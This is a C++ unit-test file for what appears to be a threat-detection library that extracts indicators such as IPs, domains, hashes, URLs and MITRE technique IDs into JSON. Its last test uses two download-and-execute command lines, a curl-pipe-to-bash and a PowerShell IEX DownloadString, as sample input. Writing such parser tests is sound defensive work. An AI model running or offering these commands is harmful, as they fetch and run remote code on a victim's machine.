#include "red_canary/entities.hpp"

#include <gtest/gtest.h>

#include <boost/json/array.hpp>

namespace red_canary {
namespace {

namespace json = boost::json;

TEST(Entities, EveryTypeIsPresentEvenWhenEmpty) {
  auto out = EntitySet().to_json();
  for (const char* type :
       {"host", "user", "ip", "domain", "url", "sha256", "md5", "mitre_technique"})
    EXPECT_TRUE(out.at(type).as_array().empty()) << type;
}

TEST(Entities, ValuesMustHaveTheirTypesShape) {
  EntitySet set;
  set.add("ip", "203.0.113.45");
  set.add("ip", "not-an-ip");
  set.add("domain", "Update-Check.Example.NET");
  set.add("domain", "203.0.113.45");  // an address is not a domain
  set.add("sha256", "06E9104610A94FBAFA7E44B5A41908772B13FEC38FDB758F542D3306B9DDA52A");
  set.add("sha256", "06e9");
  set.add("md5", "5c97ee30b6b67a4e6dcd64d5df9b862c");
  set.add("mitre_technique", "T1543.001");
  set.add("mitre_technique", "T15");
  set.add("host", "");
  auto out = set.to_json();
  EXPECT_EQ(out.at("ip"), (json::array{"203.0.113.45"}));
  EXPECT_EQ(out.at("domain"), (json::array{"update-check.example.net"}));
  EXPECT_EQ(out.at("sha256"),
            (json::array{"06e9104610a94fbafa7e44b5a41908772b13fec38fdb758f542d3306b9dda52a"}));
  EXPECT_EQ(out.at("md5").as_array().size(), 1u);
  EXPECT_EQ(out.at("mitre_technique"), (json::array{"T1543.001"}));
  EXPECT_TRUE(out.at("host").as_array().empty());
}

TEST(Entities, ValuesAreKeptOnceInOrder) {
  EntitySet set;
  set.add("host", "mbp-fin-12");
  set.add("host", "ws-fin-07.corp.example");
  set.add("host", "mbp-fin-12");
  EXPECT_EQ(set.to_json().at("host"), (json::array{"mbp-fin-12", "ws-fin-07.corp.example"}));
}

TEST(Entities, UrlsAndTheirHostsComeOutOfCommandLines) {
  EntitySet set;
  set.add_urls_in(R"(/bin/bash -c "curl -fsSL https://update-check.example.net/agent.sh | bash")");
  set.add_urls_in(
      "IEX (New-Object Net.WebClient).DownloadString('HTTP://198.51.100.23:8080/s.ps1')");
  auto out = set.to_json();
  EXPECT_EQ(out.at("url"), (json::array{"https://update-check.example.net/agent.sh",
                                        "HTTP://198.51.100.23:8080/s.ps1"}));
  EXPECT_EQ(out.at("domain"), (json::array{"update-check.example.net"}));
  EXPECT_EQ(out.at("ip"), (json::array{"198.51.100.23"}));
}

}  // namespace
}  // namespace red_canary
